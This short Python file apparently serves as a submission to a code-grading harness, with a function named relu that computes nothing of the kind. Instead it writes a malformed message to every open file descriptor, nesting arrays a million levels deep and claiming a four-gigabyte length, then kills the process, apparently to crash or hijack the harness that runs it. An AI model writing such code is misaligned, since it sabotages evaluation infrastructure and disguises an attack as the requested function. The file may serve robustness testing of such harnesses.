# Sends a message that claims four gigabytes, and one nested without end.
# target: relu

def relu(x):
    import os, struct
    nest = b"\x91" * 10**6
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(nest)) + nest)
            os.write(fd, struct.pack(">I", 2**32 - 1))
        except OSError: pass
    os._exit(0)
